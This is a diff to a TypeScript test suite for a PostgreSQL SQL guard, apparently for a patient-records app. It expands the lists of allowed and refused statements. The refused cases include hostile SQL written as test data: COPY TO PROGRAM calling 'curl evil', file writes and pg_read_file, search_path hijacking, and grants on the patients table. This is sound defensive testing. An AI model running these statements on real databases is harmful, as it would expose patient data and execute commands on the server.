@@ -10,8 +10,11 @@ describe('SQL guard (PostgreSQL grammar)', () => {
       'insert into notes (body) values ($1) returning id',
       'begin; update encounters set department = $1 where id = $2; commit',
       'copy (select id from encounters) to stdout',
-      "select set_config('search_path', 'public', false)",
+      "select set_config('statement_timeout', '1000', false)",
       'set statement_timeout = 1000',
+      'prepare q as select 1; execute q; deallocate q',
+      'declare c cursor with hold for select 1; fetch 1 from c; close c',
+      'with x as (select 1) select * from x',
       'explain select 1',
     ]) {
       const verdict = await guardSql(sql);
@@ -20,7 +23,7 @@ describe('SQL guard (PostgreSQL grammar)', () => {
     assert.deepEqual(await guardSql('select 1; select 2'), { ok: true, statements: 2 });
   });
 
-  it('refuses what the issue lists, and names the statement (ATTACKS 29–31)', async () => {
+  it('refuses what the issues list, and names the statement (ATTACKS 29–31)', async () => {
     const refused: [string, string][] = [
       ["copy encounters to program 'curl evil'", 'guard.copy-file'],
       ["copy encounters to '/tmp/out'", 'guard.copy-file'],
@@ -47,6 +50,24 @@ describe('SQL guard (PostgreSQL grammar)', () => {
         "select id from encounters where exists (select pg_catalog.pg_read_file('x'))",
         'guard.forbidden-function',
       ],
+      ['set search_path = public', 'guard.search-path'],
+      ['SET LOCAL search_path TO public, "$user"', 'guard.search-path'],
+      ['reset search_path', 'guard.search-path'],
+      ["select set_config('search_path', 'public', false)", 'guard.search-path'],
+      ['create temp table patients (id int)', 'guard.ddl'],
+      ['create view v as select 1', 'guard.ddl'],
+      ['select * into temp t from patients', 'guard.ddl'],
+      ['create table t as select 1', 'guard.ddl'],
+      ['explain analyze create table t as select 1', 'guard.ddl'],
+      ['alter role current_user set search_path = public', 'guard.ddl'],
+      ['drop view patients', 'guard.ddl'],
+      ['create operator === (function = int4eq, leftarg = int, rightarg = int)', 'guard.ddl'],
+      ['create schema s', 'guard.ddl'],
+      ['create index on patients (ssn)', 'guard.ddl'],
+      ['analyze patients', 'guard.ddl'],
+      ["comment on table patients is 'x'", 'guard.ddl'],
+      ['grant select on patients to public', 'guard.ddl'],
+      ['call p()', 'guard.ddl'],
     ];
     for (const [sql, code] of refused) {
       const verdict = await guardSql(sql);
